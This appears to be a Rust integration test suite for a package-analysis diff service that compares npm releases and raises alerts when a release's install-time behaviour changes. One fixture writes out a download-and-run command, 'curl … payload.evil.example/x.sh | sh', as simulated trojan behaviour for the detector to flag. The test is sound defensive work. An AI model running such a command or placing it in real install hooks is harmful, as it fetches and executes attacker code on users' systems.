//! The diff service against a real nats-server: results in, alerts out,
//! history in KV. Arrival out of version order, a result that never comes,
//! a redelivered result and two replicas on one package each end with one
//! alert per (release, compared-with, inputs) and no lost history.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;
use std::time::Duration;

use futures::StreamExt;
use paddock_bus::metrics::BusMetrics;
use paddock_bus::{Bus, CancellationToken, JetStreamBus};
use paddock_diff_service::history::History;
use paddock_diff_service::{DiffConfig, DiffMetrics, DiffService};
use paddock_proto::v1::{
    Alert, AnalysisRun, AnalysisStatus, ChangeAction, Command, DnsQuery, DynamicResult, Ecosystem,
    PackageRef, Phase, PhaseResult, Severity, Socket, SocketOp, StaticResult,
};
use paddock_testkit::TestNats;
use prost::Message;

struct Pipeline {
    _nats: TestNats,
    bus: JetStreamBus,
    shutdown: CancellationToken,
    alerts: async_nats::Subscriber,
}

impl Pipeline {
    async fn start(replicas: usize, deadline: Duration) -> Self {
        let nats = TestNats::start().await;
        let (bus, config) = nats.bus().await;
        let alerts = bus
            .client()
            .subscribe(bus.names().alert_filter(None, None))
            .await
            .unwrap();
        let shutdown = CancellationToken::new();
        for _ in 0..replicas {
            // Each replica its own connection, as separate processes have.
            let replica =
                JetStreamBus::connect(nats.url(), &config, Arc::new(BusMetrics::default()))
                    .await
                    .unwrap();
            let service = DiffService::new(
                &replica,
                &DiffConfig {
                    deadline,
                    ..Default::default()
                },
                config.topology.max_deliver,
                Arc::new(DiffMetrics::default()),
            )
            .await
            .unwrap();
            tokio::spawn(service.run(shutdown.clone()));
        }
        Self {
            _nats: nats,
            bus,
            shutdown,
            alerts,
        }
    }

    async fn publish_static(&self, r: &StaticResult) {
        let p = r.package.as_ref().unwrap();
        let id = format!("static:{}:{}", p.version, r.run.as_ref().unwrap().run_id);
        self.bus
            .publish(&self.bus.names().static_result(p.ecosystem()), &id, r)
            .await
            .unwrap();
    }

    async fn publish_dynamic(&self, r: &DynamicResult) {
        let p = r.package.as_ref().unwrap();
        let id = format!("dynamic:{}:{}", p.version, r.run.as_ref().unwrap().run_id);
        self.bus
            .publish(&self.bus.names().dynamic_result(p.ecosystem()), &id, r)
            .await
            .unwrap();
    }

    /// Alerts until `n` have arrived and then `quiet` passed with no more.
    async fn alerts(&mut self, n: usize, quiet: Duration) -> Vec<Alert> {
        let mut out = Vec::new();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
        loop {
            let wait = if out.len() >= n {
                quiet
            } else {
                deadline.saturating_duration_since(tokio::time::Instant::now())
            };
            match tokio::time::timeout(wait, self.alerts.next()).await {
                Ok(Some(msg)) => out.push(Alert::decode(msg.payload.as_ref()).unwrap()),
                _ => break,
            }
        }
        assert!(out.len() >= n, "expected {n} alerts, got {out:#?}");
        out
    }

    async fn history(&self, name: &str) -> History {
        let kv = self
            .bus
            .key_value(&self.bus.names().history_bucket())
            .await
            .unwrap();
        let key = self.bus.names().history_key(Ecosystem::Npm, name);
        let entry = kv.get(&key).await.unwrap().expect("a history entry");
        serde_json::from_slice(&entry).unwrap()
    }
}

impl Drop for Pipeline {
    fn drop(&mut self) {
        self.shutdown.cancel();
    }
}

fn package(name: &str, version: &str) -> PackageRef {
    PackageRef {
        ecosystem: Ecosystem::Npm as i32,
        name: name.into(),
        version: version.into(),
    }
}

fn run(id: &str) -> Option<AnalysisRun> {
    Some(AnalysisRun {
        run_id: id.into(),
        ..Default::default()
    })
}

fn static_result(name: &str, version: &str) -> StaticResult {
    StaticResult {
        package: Some(package(name, version)),
        run: run(&format!("s-{version}")),
        status: AnalysisStatus::Completed as i32,
        ..Default::default()
    }
}

/// An honest install phase; `evil` adds a download-and-run at install
/// time: DNS, a connection, and `sh -c "curl … | sh"`.
fn dynamic_result(name: &str, version: &str, evil: bool) -> DynamicResult {
    let mut install = PhaseResult {
        phase: Phase::Install as i32,
        status: AnalysisStatus::Completed as i32,
        commands: vec![Command {
            seq: 1,
            pid: 1,
            argv: vec![
                "node".into(),
                "/opt/paddock/analyze-node.js".into(),
                "install".into(),
                name.into(),
                version.into(),
            ],
            ..Default::default()
        }],
        ..Default::default()
    };
    if evil {
        install.commands.push(Command {
            seq: 5,
            pid: 30,
            parent_pid: 20,
            argv: vec![
                "sh".into(),
                "-c".into(),
                "curl -s http://payload.evil.example/x.sh | sh".into(),
            ],
            ..Default::default()
        });
        install.dns.push(DnsQuery {
            hostname: "payload.evil.example".into(),
            types: vec!["A".into()],
            class: "IN".into(),
            answered: true,
            answers: vec!["10.232.0.1".into()],
            ..Default::default()
        });
        install.sockets.push(Socket {
            seq: 6,
            pid: 31,
            op: SocketOp::Connect as i32,
            family: "AF_INET".into(),
            protocol: "tcp".into(),
            address: "10.232.0.1".into(),
            port: 80,
            hostnames: vec!["payload.evil.example".into()],
            ..Default::default()
        });
    }
    DynamicResult {
        package: Some(package(name, version)),
        run: run(&format!("d-{version}")),
        status: AnalysisStatus::Completed as i32,
        phases: vec![install],
        ..Default::default()
    }
}

fn by_version(alerts: &[Alert]) -> BTreeMap<String, Vec<&Alert>> {
    let mut m: BTreeMap<String, Vec<&Alert>> = BTreeMap::new();
    for a in alerts {
        m.entry(a.package.as_ref().unwrap().version.clone())
            .or_default()
            .push(a);
    }
    m
}

fn unique_ids(alerts: &[Alert]) {
    let ids: BTreeSet<&str> = alerts.iter().map(|a| a.alert_id.as_str()).collect();
    assert_eq!(ids.len(), alerts.len(), "a duplicate alert: {alerts:#?}");
}

#[tokio::test]
async fn a_trojaned_update_is_compared_with_its_predecessor_and_alerts_high() {
    let mut p = Pipeline::start(1, Duration::from_secs(60)).await;
    p.publish_static(&static_result("lib", "1.0.0")).await;
    p.publish_dynamic(&dynamic_result("lib", "1.0.0", false))
        .await;
    let first = p.alerts(1, Duration::from_millis(300)).await;
    assert_eq!(first.len(), 1);
    assert_eq!(first[0].severity, Severity::Info as i32);
    p.publish_dynamic(&dynamic_result("lib", "1.0.1", true))
        .await;
    p.publish_static(&static_result("lib", "1.0.1")).await;
    let second = p.alerts(1, Duration::from_millis(500)).await;
    assert_eq!(second.len(), 1, "{second:#?}");
    let a = &second[0];
    assert!(a.severity >= Severity::High as i32, "{a:#?}");
    let change = a.change.as_ref().expect("a behaviour change");
    assert_eq!(change.previous_version, "1.0.0");
    assert!(change
        .changes
        .iter()
        .all(|c| c.action == ChangeAction::Added as i32));
    let subject_sev =
        paddock_proto::ecosystem::severity_token(Severity::try_from(a.severity).unwrap());
    assert!(
        a.summary.contains("lib@1.0.1") && a.summary.contains(subject_sev),
        "{}",
        a.summary
    );
}

#[tokio::test]
async fn out_of_order_arrival_is_compared_by_version_and_loses_nothing() {
    let mut p = Pipeline::start(1, Duration::from_secs(60)).await;
    // 1.0.1 (trojaned) is analysed before 1.0.0.
    p.publish_static(&static_result("ooo", "1.0.1")).await;
    p.publish_dynamic(&dynamic_result("ooo", "1.0.1", true))
        .await;
    let early = p.alerts(1, Duration::from_millis(300)).await;
    assert_eq!(early.len(), 1);
    assert_eq!(early[0].verdict.as_ref().unwrap().previous_version, "");
    p.publish_static(&static_result("ooo", "1.0.0")).await;
    p.publish_dynamic(&dynamic_result("ooo", "1.0.0", false))
        .await;
    // 1.0.0 decided (nothing before it), and 1.0.1 compared again, now
    // with 1.0.0: two more alerts, and the second shows the trojan.
    let late = p.alerts(2, Duration::from_millis(500)).await;
    assert_eq!(late.len(), 2, "{late:#?}");
    let all: Vec<Alert> = early.into_iter().chain(late).collect();
    unique_ids(&all);
    let v = by_version(&all);
    assert_eq!(v["1.0.0"].len(), 1);
    let redone = v["1.0.1"]
        .iter()
        .find(|a| a.verdict.as_ref().unwrap().previous_version == "1.0.0")
        .expect("1.0.1 compared with 1.0.0");
    assert!(redone.severity >= Severity::High as i32);
    let hist = p.history("ooo").await;
    assert_eq!(
        hist.releases.keys().cloned().collect::<Vec<_>>(),
        vec!["1.0.0", "1.0.1"]
    );
    assert!(hist
        .releases
        .values()
        .all(|r| r.decision.as_ref().is_some_and(|d| d.pending.is_none())));
}

#[tokio::test]
async fn a_missing_dynamic_result_is_decided_at_the_deadline_with_what_there_is() {
    let mut p = Pipeline::start(1, Duration::from_secs(2)).await;
    let started = std::time::Instant::now();
    p.publish_static(&static_result("nodyn", "3.0.0")).await;
    let alerts = p.alerts(1, Duration::from_millis(300)).await;
    assert_eq!(alerts.len(), 1);
    assert!(started.elapsed() >= Duration::from_secs(2));
    let v = alerts[0].verdict.as_ref().unwrap();
    assert!(v.has_static && !v.has_dynamic, "{v:#?}");
    // The dynamic result arriving after all decides the release again,
    // once, with both.
    p.publish_dynamic(&dynamic_result("nodyn", "3.0.0", false))
        .await;
    let again = p.alerts(1, Duration::from_millis(500)).await;
    assert_eq!(again.len(), 1);
    assert!(again[0].verdict.as_ref().unwrap().has_dynamic);
    assert_ne!(again[0].alert_id, alerts[0].alert_id);
}

#[tokio::test]
async fn a_redelivered_result_makes_no_second_alert() {
    let mut p = Pipeline::start(1, Duration::from_secs(60)).await;
    p.publish_static(&static_result("redo", "1.0.0")).await;
    p.publish_dynamic(&dynamic_result("redo", "1.0.0", false))
        .await;
    let first = p.alerts(1, Duration::from_millis(300)).await;
    // The same results again, as new messages (past the stream's
    // duplicate detection): the history knows them.
    let mut s = static_result("redo", "1.0.0");
    let d = dynamic_result("redo", "1.0.0", false);
    p.bus
        .publish(
            &p.bus.names().static_result(Ecosystem::Npm),
            "another-id-1",
            &s,
        )
        .await
        .unwrap();
    p.bus
        .publish(
            &p.bus.names().dynamic_result(Ecosystem::Npm),
            "another-id-2",
            &d,
        )
        .await
        .unwrap();
    s.created_at = None;
    let more = tokio::time::timeout(Duration::from_secs(2), p.alerts.next()).await;
    assert!(more.is_err(), "a second alert: {more:?}");
    assert_eq!(first.len(), 1);
}

#[tokio::test]
async fn two_replicas_on_one_package_alert_once_per_release_in_version_order() {
    let mut p = Pipeline::start(2, Duration::from_secs(60)).await;
    let versions: Vec<String> = (0..6).map(|i| format!("1.0.{i}")).collect();
    // Every result of every release at once, both replicas pulling.
    for v in &versions {
        p.publish_static(&static_result("race", v)).await;
        p.publish_dynamic(&dynamic_result("race", v, v == "1.0.5"))
            .await;
    }
    let alerts = p.alerts(versions.len(), Duration::from_secs(2)).await;
    unique_ids(&alerts);
    let hist = p.history("race").await;
    assert_eq!(hist.releases.len(), versions.len(), "no history lost");
    // Whatever the interleaving, each release's final decision compares
    // it with the release just below it.
    for (i, v) in versions.iter().enumerate() {
        let d = hist.releases[v].decision.as_ref().unwrap();
        let expected = (i > 0).then(|| versions[i - 1].clone());
        assert_eq!(d.previous, expected, "{v}");
        assert!(d.pending.is_none(), "{v} published");
        // Its final alert went out exactly once.
        let n = alerts.iter().filter(|a| a.alert_id == d.alert_id).count();
        assert_eq!(n, 1, "{v}: {alerts:#?}");
    }
    assert!(hist.releases["1.0.5"].decision.as_ref().unwrap().severity >= Severity::High as i32);
}
